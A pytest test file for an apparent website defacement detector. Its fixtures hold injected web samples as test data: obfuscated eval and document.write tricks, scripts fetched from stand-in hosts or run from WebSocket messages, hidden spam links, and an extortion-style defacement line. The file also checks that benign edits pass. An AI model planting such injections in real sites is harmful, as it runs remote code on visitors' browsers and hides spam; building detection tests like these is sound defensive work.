"""What the second look of attackers' and editors' habits found, each by its name."""

import pytest

from sentinel.core.verdict import Verdict
from support.district import END, LEAD, NEWS, PAGE, judged, placed, seen, swapped

NOTICED = {Verdict.DEFACED, Verdict.SUSPECT}
HONEST = {Verdict.EDITED, Verdict.INTACT}


def code(text: str) -> str:
    return placed(END, f"<script>{text}</script>")


HIDDEN_CODE = {
    "eval in pieces": code("var a='';for(i=0;i<9;i++){a+=String(i)}window['ev'+'al'](a)"),
    "function of an escape": code("Function(\"return unescape('%61%6c%65')\")()"),
    "names in halves": code(
        "fr='fromChar';f=[4,0,91];v='eva';e=window[v+'l'];s=[];for(i=0;i<3;i++){s+=String[fr+'Code']"
        "(f[i]+9)}e(s)"
    ),
    "write in pieces": code(
        'var z=[];z.push("%3C%73");var d=document;d["wri"+"te"](unescape(z.join("")))'
    ),
    "window on a click": code(
        "var u='http://films.tracker-x.example/';document.onclick=function(){window.open(u)}"
    ),
    "conditional comment": placed(
        END, '<!--[if lt IE 9]><script src="http://shim-x.example/html5.js"></script><![endif]-->'
    ),
    "imported style": placed(END, "<style>@import url('http://styles-x.example/a.css');</style>"),
    "links in a speck of running text": placed(
        END,
        "<marquee width=1 height=1>"
        + "".join(f'<a href="http://film{n}.example.org">see film</a>' for n in range(5))
        + "</marquee>",
    ),
    "address in pieces": code(
        "var a=document.createElement('script');a.src='ht'+'tps://st'+'at-x.cl'+'ub/j.js';"
        "document.body.appendChild(a)"
    ),
    "address in codes": code(
        "var u=decodeURIComponent('https%3A%2F%2Fpop-x.example%2Fa.js'),d=document,"
        "s=d.createElement('script');s.src=u;d.head.append(s)"
    ),
    "letters one by one": code(
        "var s=String.fromCharCode;document.write(s(60)+s(115)+s(99)+s(114)+s(105)+s(112)+s(116))"
    ),
    "tag in pieces": code(
        "var m=[104,116,116,112];var o='';for(var i in m)o+=String.fromCharCode(m[i]);"
        "document.write('<scr'+'ipt src='+o+'></scr'+'ipt>')"
    ),
    "code through a socket": code(
        "new WebSocket('wss://feed-x.example/c').onmessage=function(e){eval(e.data)}"
    ),
    "links one pixel high": placed(
        END,
        "<span style='color:#fff;font-size:1px'>"
        + "".join(f'<a href="https://loan{n}.example.org">loan</a>' for n in range(4))
        + "</span>",
    ),
    "accusation": placed("<h2>News", "<h2>The minister is a thief. Or we leak everything!</h2>"),
}


@pytest.mark.parametrize("name", HIDDEN_CODE)
def test_what_hides_in_pieces_comments_styles_and_specks_is_seen(name: str) -> None:
    found = judged(HIDDEN_CODE[name])
    assert found.verdict in NOTICED, seen(found)


MENU = "".join(f'<a href="https://office{n}.example.org">Office {n}</a>' for n in range(8))
BEFORE_MENU = PAGE.replace(END, f'<div style="display:none">{MENU}</div>{END}', 1)
EDITS = {
    "cookie bar": placed(
        END,
        '<div style="position:fixed;bottom:0;left:0;right:0;background:#222">We use cookies.</div>',
    ),
    "sharing": placed(
        END,
        "<a href='#' onclick=\"window.open('https://www.facebook.com/sharer/sharer.php?u='+"
        'location.href)">Share</a>',
    ),
    "waiting picture of a theme": placed(
        END, '<div id="preloader" style="position:fixed;top:0;left:0;width:100%;height:100%"></div>'
    ),
    "small print": placed(
        END,
        "<p style='font-size:0.9em'>"
        + "".join(f'<a href="https://office{n}.example.org">Office {n}</a>' for n in range(5))
        + "</p>",
    ),
    "address of a mail in pieces": code(
        "var a='info';var b='district.example';document.write('<a href=\"mailto:'+a+'@'+b+'\">'+a)"
    ),
    "old browsers' parts": placed(
        END,
        '<!--[if lt IE 9]><script src="http://html5shim.googlecode.com/svn/trunk/html5.js">'
        "</script><![endif]-->",
    ),
}


@pytest.mark.parametrize("name", EDITS)
def test_what_editors_do_is_an_edit(name: str) -> None:
    found = judged(EDITS[name])
    assert found.verdict in HONEST, seen(found)


QUOTES = {
    "quoted words of a defacement": placed(
        "<h2>News",
        "<h3>How the orchard board was hacked</h3><p>On Monday the group changed their home page "
        'to the words "Hacked by Velvet Owl".</p>',
    ),
    "an example": swapped(
        LEAD, "For example search your logs for a title such as: Hacked by Velvet Owl"
    ),
    "a question": placed(
        "<h2>News", "<p>My site was hacked by somebody foreign too, how do I repair it?</p>"
    ),
}


@pytest.mark.parametrize("name", QUOTES)
def test_a_claim_that_is_quoted_or_asked_about_is_no_proof(name: str) -> None:
    found = judged(QUOTES[name])
    assert found.verdict is not Verdict.DEFACED, seen(found)


def test_links_in_a_menu_that_opens_are_no_proof_of_spam() -> None:
    more = MENU + "".join(f'<a href="https://court{n}.example.org">Court</a>' for n in range(4))
    found = judged(BEFORE_MENU.replace(MENU, more, 1), BEFORE_MENU)
    assert found.verdict is not Verdict.DEFACED, seen(found)


def test_the_places_of_the_samples_exist() -> None:
    assert all(place in PAGE for place in (END, LEAD, NEWS, "<h2>News"))
